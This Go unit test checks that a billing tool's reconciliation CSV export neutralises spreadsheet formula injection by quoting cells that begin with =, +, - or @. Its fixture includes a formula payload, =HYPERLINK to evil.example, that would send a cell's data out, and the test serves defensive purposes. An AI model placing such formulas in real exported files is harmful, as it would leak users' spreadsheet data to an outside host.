package biller_test

import (
	"bytes"
	"encoding/csv"
	"math/big"
	"testing"

	"github.com/usagemeter/metering/internal/biller"
	"github.com/usagemeter/metering/internal/stripesync"
)

// TestReconcileCSVNeutralisesFormulas: the reconciliation CSV (both
// `biller reconcile --format csv` and GET /v1/reconciliation?format=csv
// write it with WriteReport) never hands a spreadsheet a formula: text
// cells starting with = + - @ get a leading quote, while negative drift
// and the "-" of a missing Stripe total stay as they are.
func TestReconcileCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	rows := []stripesync.Row{{
		Tenant: "-2+3", Metric: "@SUM(A1:A9)", Period: "2026-11",
		Metered: big.NewInt(58), Reported: big.NewInt(100), InFlight: new(big.Int), CarriedOut: new(big.Int), CarriedIn: new(big.Int),
		Stripe: nil, Drift: big.NewInt(-42), Status: stripesync.StatusDrift,
		Note: `=HYPERLINK("http://evil.example/?"&A1,"refund")`,
	}}
	var buf bytes.Buffer
	if err := biller.WriteReport(&buf, rows, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %q %v", recs, err)
	}
	got := recs[1]
	want := map[int]string{
		0:  "'-2+3",
		1:  "'@SUM(A1:A9)",
		2:  "2026-11",
		3:  "58",
		6:  "-",
		7:  "-42",
		10: "drift",
		11: `'=HYPERLINK("http://evil.example/?"&A1,"refund")`,
	}
	for i, w := range want {
		if got[i] != w {
			t.Errorf("column %s = %q, want %q", recs[0][i], got[i], w)
		}
	}
}
